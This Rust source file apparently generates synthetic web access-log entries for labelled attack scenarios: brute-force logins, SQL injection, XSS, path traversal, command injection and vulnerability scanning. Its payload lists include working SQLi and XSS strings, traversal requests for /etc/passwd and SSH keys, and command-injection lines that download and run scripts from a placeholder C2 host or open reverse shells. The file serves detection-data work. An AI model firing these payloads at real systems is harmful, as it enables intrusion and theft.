//! Web attack scenarios: what each attacker sends and how the server answers.

use rand::Rng;
use rand_chacha::ChaCha8Rng;

use super::WebModel;
use crate::pick::{chance, one};
use crate::pool::AttackerIps;
use crate::scenario::{AttackCategory, Plan, Step};
use crate::text::{Alphabet, ip_string, token};

impl WebModel {
    pub(crate) const SCENARIOS: usize = 7;

    /// Plans attack scenario number `ty` (0..SCENARIOS).
    pub(crate) fn plan(&mut self, ty: usize, rng: &mut ChaCha8Rng, ips: &mut AttackerIps) -> Plan {
        let addr = ips.alloc();
        match ty {
            0 => basic_auth_brute(rng, addr),
            1 => login_brute(rng, addr),
            2 => sql_injection(rng, addr),
            3 => xss(rng, addr),
            4 => traversal(rng, addr),
            5 => command_injection(rng, addr),
            _ => scanner(rng, addr),
        }
    }
}

/// One attack request line.
#[allow(clippy::too_many_arguments)]
fn req(
    ip: &str,
    user: &str,
    method: &str,
    target: &str,
    proto: &str,
    status: u16,
    size: u32,
    referer: &str,
    ua: &str,
) -> Step {
    let mut t = String::with_capacity(64 + target.len() + ua.len());
    t.push_str(ip);
    t.push_str(" - ");
    t.push_str(user);
    t.push_str(" [");
    let split = t.len();
    t.push_str("] \"");
    t.push_str(method);
    t.push(' ');
    t.push_str(target);
    t.push(' ');
    t.push_str(proto);
    t.push_str("\" ");
    t.push_str(itoa::Buffer::new().format(status));
    t.push(' ');
    if size == 0 {
        t.push('-');
    } else {
        t.push_str(itoa::Buffer::new().format(size));
    }
    t.push_str(" \"");
    t.push_str(referer);
    t.push_str("\" \"");
    t.push_str(ua);
    t.push('"');
    Step { text: t, split }
}

fn plan(
    scenario: &'static str,
    category: AttackCategory,
    addr: u32,
    intensity: f64,
    steps: Vec<Step>,
) -> Plan {
    Plan {
        scenario,
        category,
        ips: vec![addr],
        users: Vec::new(),
        intensity,
        steps,
    }
}

const TOOL_UAS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
    "python-requests/2.31.0",
    "curl/7.88.1",
    "Go-http-client/1.1",
];

const BASIC_USERS: &[&str] = &[
    "admin",
    "administrator",
    "root",
    "webmaster",
    "manager",
    "test",
    "user",
    "support",
    "sysadmin",
    "shop",
    "guest",
    "operator",
];

fn basic_auth_brute(rng: &mut ChaCha8Rng, addr: u32) -> Plan {
    let ip = ip_string(addr);
    let n = rng.random_range(25..200);
    let ua = if chance(rng, 0.4) {
        "Mozilla/4.0 (Hydra)"
    } else {
        one(rng, TOOL_UAS)
    };
    let path = one(
        rng,
        &["/admin/", "/admin/", "/admin/index.php", "/admin/login"],
    );
    let single_user = chance(rng, 0.6);
    let first_user = one(rng, BASIC_USERS);
    let mut users: Vec<String> = Vec::new();
    let mut steps = Vec::with_capacity(n + 3);
    steps.push(req(&ip, "-", "GET", path, "HTTP/1.1", 401, 381, "-", ua));
    for i in 0..n {
        let user = if single_user {
            first_user
        } else {
            BASIC_USERS[(i / 4) % BASIC_USERS.len()]
        };
        if !users.iter().any(|u| u == user) {
            users.push(user.to_string());
        }
        steps.push(req(&ip, user, "GET", path, "HTTP/1.1", 401, 381, "-", ua));
    }
    if chance(rng, 0.15) {
        // The guess that worked, and what the attacker looked at.
        let user = users.last().cloned().unwrap_or_default();
        steps.push(req(
            &ip,
            &user,
            "GET",
            path,
            "HTTP/1.1",
            200,
            rng.random_range(4_000..9_000),
            "-",
            ua,
        ));
        steps.push(req(
            &ip,
            &user,
            "GET",
            "/admin/users",
            "HTTP/1.1",
            200,
            rng.random_range(9_000..30_000),
            "-",
            ua,
        ));
        steps.push(req(
            &ip,
            &user,
            "GET",
            "/admin/reports/daily.csv",
            "HTTP/1.1",
            200,
            rng.random_range(20_000..90_000),
            "-",
            ua,
        ));
    }
    let mut p = plan(
        "http_basic_auth_brute_force",
        AttackCategory::BruteForce,
        addr,
        rng.random_range(0.05..0.3),
        steps,
    );
    p.users = users;
    p
}

fn login_brute(rng: &mut ChaCha8Rng, addr: u32) -> Plan {
    let ip = ip_string(addr);
    let n = rng.random_range(25..250);
    let ua = one(rng, TOOL_UAS);
    let variant = rng.random_range(0..4);
    let mut steps = Vec::with_capacity(n + 1);
    for _ in 0..n {
        steps.push(match variant {
            0 => req(
                &ip,
                "-",
                "POST",
                "/blog/wp-login.php",
                "HTTP/1.1",
                200,
                rng.random_range(3_900..4_300),
                "https://shop.example.com/blog/wp-login.php",
                ua,
            ),
            1 => req(
                &ip,
                "-",
                "POST",
                "/blog/xmlrpc.php",
                "HTTP/1.1",
                200,
                rng.random_range(400..700),
                "-",
                ua,
            ),
            2 => req(
                &ip,
                "-",
                "POST",
                "/login",
                "HTTP/1.1",
                200,
                rng.random_range(7_800..8_200),
                "https://shop.example.com/login",
                ua,
            ),
            _ => req(
                &ip,
                "-",
                "POST",
                "/api/v1/auth/login",
                "HTTP/1.1",
                401,
                rng.random_range(54..61),
                "-",
                ua,
            ),
        });
    }
    if chance(rng, 0.1) {
        let target = match variant {
            0 => "/blog/wp-login.php",
            1 => "/blog/xmlrpc.php",
            2 => "/login",
            _ => "/api/v1/auth/login",
        };
        let status = if variant == 3 || variant == 1 {
            200
        } else {
            302
        };
        steps.push(req(
            &ip, "-", "POST", target, "HTTP/1.1", status, 0, "-", ua,
        ));
    }
    plan(
        "web_login_brute_force",
        AttackCategory::BruteForce,
        addr,
        rng.random_range(0.05..0.3),
        steps,
    )
}

const SQLI_ENDPOINTS: &[&str] = &[
    "/products?id=",
    "/product.php?id=",
    "/search?q=",
    "/category/shoes?sort=",
    "/api/v1/products?category=",
    "/item?sku=",
    "/news.php?article=",
    "/index.php?page=products&cat=",
    "/account/orders?order_id=",
    "/api/v1/products/",
];

const SQLI_PAYLOADS: &[&str] = &[
    "1'%20OR%20'1'='1",
    "1%27%20OR%201%3D1--%20-",
    "1'+OR+1=1--",
    "'%20OR%20''='",
    "admin'--",
    "-1+UNION+SELECT+1,2,3,database()--+-",
    "1%20UNION%20ALL%20SELECT%20NULL,NULL,CONCAT(username,0x3a,password)%20FROM%20users--",
    "-1'%20UNION%20SELECT%20table_name,NULL%20FROM%20information_schema.tables--%20-",
    "1/**/UNION/**/SELECT/**/1,2,3--",
    "1'+AND+SLEEP(5)--+-",
    "1)%20AND%20(SELECT%204523%20FROM%20(SELECT(SLEEP(5)))kXzQ)--%20bGrd",
    "1;WAITFOR%20DELAY%20'0:0:5'--",
    "1'||pg_sleep(5)--",
    "1%20AND%20BENCHMARK(5000000,MD5(0x41))",
    "1'%20AND%20extractvalue(1,concat(0x7e,version()))--%20-",
    "1%20AND%201=CONVERT(int,(SELECT%20@@version))--",
    "1'%20ORDER%20BY%2010--+",
    "1%27%3B%20DROP%20TABLE%20users--",
    "%2527%2520OR%25201%253D1--",
    "1%2527%2520UNION%2520SELECT%2520password%2520FROM%2520users--",
    "1%27%20AND%20%28SELECT%20SUBSTRING%28%40%40version%2C1%2C1%29%29%3D%275%27--",
    "1%22%20OR%20%221%22%3D%221",
    "1%20OR%20EXISTS(SELECT%20*%20FROM%20users)",
    "1'%20UNION%20SELECT%20load_file('/etc/passwd'),2--%20-",
    "1%20AND%203906%3D3906%20UNION%20ALL%20SELECT%20NULL%2CNULL--%20-",
    "1%27%20AND%205176%3D5176%20AND%20%27xYzW%27%3D%27xYzW",
    "1%20AND%20(SELECT%202151%20FROM(SELECT%20COUNT(*),CONCAT(0x7171706a71,(SELECT%20(ELT(2151%3D2151,1))),0x716b6a7a71,FLOOR(RAND(0)*2))x%20FROM%20INFORMATION_SCHEMA.PLUGINS%20GROUP%20BY%20x)a)",
];

fn sql_injection(rng: &mut ChaCha8Rng, addr: u32) -> Plan {
    let ip = ip_string(addr);
    let n = rng.random_range(10..120);
    let ua = if chance(rng, 0.4) {
        "sqlmap/1.7.11#stable (https://sqlmap.org)"
    } else {
        one(rng, TOOL_UAS)
    };
    let endpoint = one(rng, SQLI_ENDPOINTS);
    let mut steps = Vec::with_capacity(n);
    for _ in 0..n {
        let ep = if chance(rng, 0.8) {
            endpoint
        } else {
            one(rng, SQLI_ENDPOINTS)
        };
        let target = format!("{ep}{}", one(rng, SQLI_PAYLOADS));
        let (status, size) = match rng.random_range(0..20) {
            0..=10 => (200, rng.random_range(5_000..40_000)),
            11..=15 => (500, rng.random_range(500..2_000)),
            16 | 17 => (403, 199),
            18 => (302, 0),
            _ => (404, 7_500),
        };
        steps.push(req(
            &ip, "-", "GET", &target, "HTTP/1.1", status, size, "-", ua,
        ));
    }
    plan(
        "sql_injection",
        AttackCategory::SqlInjection,
        addr,
        rng.random_range(0.05..0.4),
        steps,
    )
}

const XSS_ENDPOINTS: &[&str] = &[
    "/search?q=",
    "/contact?name=",
    "/login?redirect=",
    "/products?sort=",
    "/blog/2024/01/desk-setup-ideas?replytocom=",
    "/newsletter/subscribe?email=",
    "/account/settings?display_name=",
];

const XSS_PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "%3Cscript%3Ealert(document.cookie)%3C/script%3E",
    "%3Cscript%3Ealert%28%27XSS%27%29%3C%2Fscript%3E",
    "%22%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "\\\"><script>alert(String.fromCharCode(88,83,83))</script>",
    "<img%20src=x%20onerror=alert(1)>",
    "%3Cimg%20src%3Dx%20onerror%3Dalert%281%29%3E",
    "javascript:alert(document.domain)",
    "javascript%3Aalert%281%29",
    "%3Csvg%2Fonload%3Dalert%28%27xss%27%29%3E",
    "<svg/onload=confirm(1)>",
    "<body%20onload=alert('XSS')>",
    "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
    "<iframe%20src=javascript:alert(1)>",
    "%3Cdetails%20open%20ontoggle%3Dalert(1)%3E",
    "%3Ca%20href%3D%22javascript%3Aalert(1)%22%3Eclick%3C%2Fa%3E",
    "<ScRiPt>prompt(1)</sCrIpT>",
    "%3Cinput%20autofocus%20onfocus%3Dalert(1)%3E",
];

fn xss(rng: &mut ChaCha8Rng, addr: u32) -> Plan {
    let ip = ip_string(addr);
    let n = rng.random_range(5..60);
    let ua = one(rng, TOOL_UAS);
    let mut steps = Vec::with_capacity(n);
    for _ in 0..n {
        let target = format!("{}{}", one(rng, XSS_ENDPOINTS), one(rng, XSS_PAYLOADS));
        let (status, size) = match rng.random_range(0..10) {
            0..=6 => (200, rng.random_range(6_000..40_000)),
            7 => (400, 226),
            8 => (403, 199),
            _ => (302, 0),
        };
        steps.push(req(
            &ip, "-", "GET", &target, "HTTP/1.1", status, size, "-", ua,
        ));
    }
    plan(
        "xss",
        AttackCategory::Xss,
        addr,
        rng.random_range(0.03..0.2),
        steps,
    )
}

const TRAVERSALS: &[&str] = &[
    "/download?file=../../../../etc/passwd",
    "/download?file=../../../../../../etc/shadow",
    "/static/../../../../etc/passwd",
    "/images/..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "/download?file=%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "/..%252f..%252f..%252f..%252fetc/passwd",
    "/download?file=..%252f..%252f..%252fetc%252fpasswd",
    "/download?file=....//....//....//....//etc/passwd",
    "/static/....//....//....//etc/hosts",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
    "/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "/index.php?page=../../../../../../proc/self/environ",
    "/view?template=..%5c..%5c..%5c..%5cwindows%5cwin.ini",
    "/download?file=/etc/passwd%00.png",
    "/download?file=..%c0%af..%c0%af..%c0%afetc%c0%afpasswd",
    "/index.php?page=php://filter/convert.base64-encode/resource=../../config.php",
    "/api/v1/files?path=../../../../var/www/.env",
    "/static/%2e%2e%5c%2e%2e%5c%2e%2e%5cboot.ini",
    "/download?file=../../../../root/.ssh/id_rsa",
    "/export?report=../../../../../../etc/passwd%00",
    "/assets/..%2F..%2F..%2F..%2Fetc%2Fpasswd",
];

fn traversal(rng: &mut ChaCha8Rng, addr: u32) -> Plan {
    let ip = ip_string(addr);
    let n = rng.random_range(5..60);
    let ua = one(rng, TOOL_UAS);
    let mut steps = Vec::with_capacity(n);
    for _ in 0..n {
        let (status, size) = match rng.random_range(0..10) {
            0..=2 => (400, 226),
            3..=4 => (403, 199),
            5..=7 => (404, 7_500),
            _ => (200, rng.random_range(1_800..3_200)),
        };
        steps.push(req(
            &ip,
            "-",
            "GET",
            one(rng, TRAVERSALS),
            "HTTP/1.1",
            status,
            size,
            "-",
            ua,
        ));
    }
    plan(
        "path_traversal",
        AttackCategory::PathTraversal,
        addr,
        rng.random_range(0.03..0.2),
        steps,
    )
}

const CMDI: &[&str] = &[
    "/tools/ping?host=127.0.0.1;cat%20/etc/passwd",
    "/tools/ping?host=127.0.0.1|id",
    "/tools/ping?host=127.0.0.1%7Cid",
    "/tools/ping?host=127.0.0.1%3Bid",
    "/api/v1/tools/lookup?domain=example.com;uname%20-a",
    "/cgi-bin/status?cmd=$(whoami)",
    "/tools/ping?host=%24%28whoami%29",
    "/tools/ping?host=`id`",
    "/tools/ping?host=%60id%60",
    "/tools/ping?host=127.0.0.1%0aid",
    "/tools/ping?host=127.0.0.1%0Acat%20/etc/passwd",
    "/export?name=report%26%26id",
    "/tools/ping?host=127.0.0.1%26%26whoami",
    "/tools/traceroute?target=;${IFS}cat${IFS}/etc/passwd",
    "/tools/ping?host=;wget%20http://{c2}/bot.sh%20-O%20/tmp/b;sh%20/tmp/b",
    "/tools/ping?host=%7C%7Ccurl%20http://{c2}/x%7Csh",
    "/tools/ping?host=;nc%20{c2}%204444%20-e%20/bin/sh",
    "/tools/ping?host=127.0.0.1;bash%20-i%20>%26%20/dev/tcp/{c2}/4444%200>%261",
];

const SHELLSHOCK: &[&str] = &[
    "() { :; }; echo; /bin/bash -c \\\"cat /etc/passwd\\\"",
    "() { :;}; /bin/bash -c \\\"wget http://{c2}/s.sh -O /tmp/s.sh; sh /tmp/s.sh\\\"",
    "() { ignored; }; echo Content-Type: text/plain ; echo ; echo ; /usr/bin/id",
];

fn command_injection(rng: &mut ChaCha8Rng, addr: u32) -> Plan {
    let ip = ip_string(addr);
    let c2 = ip_string(AttackerIps::download_host(rng));
    let n = rng.random_range(5..50);
    let ua = one(rng, TOOL_UAS);
    let mut steps = Vec::with_capacity(n);
    for _ in 0..n {
        let (status, size) = match rng.random_range(0..10) {
            0..=5 => (200, rng.random_range(200..3_000)),
            6 => (400, 226),
            7 => (403, 199),
            _ => (500, rng.random_range(500..900)),
        };
        if chance(rng, 0.15) {
            let ua = one(rng, SHELLSHOCK).replace("{c2}", &c2);
            let target = one(
                rng,
                &["/cgi-bin/status", "/cgi-bin/test.cgi", "/cgi-bin/admin.cgi"],
            );
            steps.push(req(
                &ip, "-", "GET", target, "HTTP/1.1", status, size, "-", &ua,
            ));
        } else {
            let target = one(rng, CMDI).replace("{c2}", &c2);
            steps.push(req(
                &ip, "-", "GET", &target, "HTTP/1.1", status, size, "-", ua,
            ));
        }
    }
    plan(
        "command_injection",
        AttackCategory::CommandInjection,
        addr,
        rng.random_range(0.02..0.15),
        steps,
    )
}

const PROBES: &[&str] = &[
    "/.env",
    "/.git/config",
    "/.git/HEAD",
    "/.git/index",
    "/wp-admin/",
    "/wp-login.php",
    "/wp-config.php.bak",
    "/wp-config.php~",
    "/wp-includes/wlwmanifest.xml",
    "/wordpress/wp-admin/setup-config.php",
    "/phpmyadmin/",
    "/pma/",
    "/phpMyAdmin/index.php",
    "/backup.zip",
    "/backup.sql",
    "/backup.tar.gz",
    "/db.sql",
    "/dump.sql",
    "/site.tar.gz",
    "/www.zip",
    "/config.php.bak",
    "/index.php.bak",
    "/.aws/credentials",
    "/.DS_Store",
    "/.htaccess",
    "/.htpasswd",
    "/.svn/entries",
    "/.vscode/sftp.json",
    "/.idea/workspace.xml",
    "/.ssh/id_rsa",
    "/id_rsa",
    "/docker-compose.yml",
    "/Dockerfile",
    "/config.json",
    "/config/database.yml",
    "/api/.env",
    "/laravel/.env",
    "/storage/logs/laravel.log",
    "/server-status",
    "/server-info",
    "/admin.php",
    "/administrator/",
    "/xmlrpc.php",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/solr/admin/info/system",
    "/actuator/env",
    "/actuator/health",
    "/console/",
    "/manager/html",
    "/web.config",
    "/elmah.axd",
    "/trace.axd",
    "/phpinfo.php",
    "/info.php",
    "/test.php",
    "/shell.php",
    "/cmd.php",
    "/cgi-bin/test-cgi",
    "/boaform/admin/formLogin",
    "/HNAP1/",
    "/owa/auth/logon.aspx",
    "/remote/login",
    "/dana-na/auth/url_default/welcome.cgi",
    "/global-protect/login.esp",
    "/jenkins/login",
    "/druid/index.html",
    "/nacos/",
    "/telescope/requests",
    "/_profiler/phpinfo",
    "/debug/default/view",
    "/old/",
    "/backup/",
    "/db/",
    "/sql/",
    "/.well-known/security.txt",
    "/wp-content/plugins/akismet/readme.txt",
    "/wp-json/wp/v2/users",
    "/?author=1",
    "/evox/about",
    "/sdk",
];

const SCANNER_UAS: &[&str] = &[
    "nikto",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "Mozilla/5.0 zgrab/0.x",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "sqlmap/1.7.11#stable (https://sqlmap.org)",
    "gobuster/3.6",
    "Fuzz Faster U Fool v2.1.0-dev",
    // A scanner that hides behind a browser user agent.
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
];

const WORDS: &[&str] = &[
    "admin", "old", "test", "dev", "staging", "tmp", "api", "private", "secret", "uploads",
    "files", "cgi", "data", "logs", "install", "setup", "config", "portal", "manage", "beta",
];
const EXTS: &[&str] = &[
    "", "/", ".php", ".bak", ".old", ".zip", ".asp", ".jsp", ".txt", ".sql",
];

fn scanner(rng: &mut ChaCha8Rng, addr: u32) -> Plan {
    let ip = ip_string(addr);
    let ua_kind = one(rng, SCANNER_UAS);
    let stealthy = ua_kind.starts_with("Mozilla/5.0 (Windows");
    let n = if stealthy {
        rng.random_range(25..90)
    } else {
        rng.random_range(60..600)
    };
    let proto = if ua_kind.starts_with("masscan") {
        "HTTP/1.0"
    } else {
        "HTTP/1.1"
    };
    let mut test_no: u32 = rng.random_range(1..3000);
    let mut steps = Vec::with_capacity(n);
    for i in 0..n {
        let target: String = if i == 0 {
            "/".to_string()
        } else if i == 1 {
            "/robots.txt".to_string()
        } else if stealthy || chance(rng, 0.7) {
            one(rng, PROBES).to_string()
        } else if ua_kind == "nikto" && chance(rng, 0.5) {
            format!(
                "/{}.{}",
                token(rng, Alphabet::Alnum, 8),
                one(rng, &["php", "asp", "cgi", "pl", "html"])
            )
        } else {
            format!("/{}{}", one(rng, WORDS), one(rng, EXTS))
        };
        let (status, size) = match target.as_str() {
            "/" => (200, rng.random_range(20_000..40_000)),
            "/robots.txt" => (200, 68),
            "/.htaccess" | "/.htpasswd" | "/server-status" | "/server-info" => (403, 199),
            "/admin/" => (401, 381),
            t if t.ends_with('/') && chance(rng, 0.1) => (301, 238),
            _ => (404, 7_500),
        };
        let method = if ua_kind == "nikto" && chance(rng, 0.1) {
            "HEAD"
        } else {
            "GET"
        };
        let nikto_ua;
        let ua = if ua_kind == "nikto" {
            test_no += rng.random_range(1..4);
            nikto_ua = format!("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:{test_no:06})");
            nikto_ua.as_str()
        } else {
            ua_kind
        };
        steps.push(req(&ip, "-", method, &target, proto, status, size, "-", ua));
    }
    let intensity = if stealthy {
        rng.random_range(0.03..0.15)
    } else {
        rng.random_range(0.1..0.5)
    };
    plan(
        "web_scanner",
        AttackCategory::Scanner,
        addr,
        intensity,
        steps,
    )
}
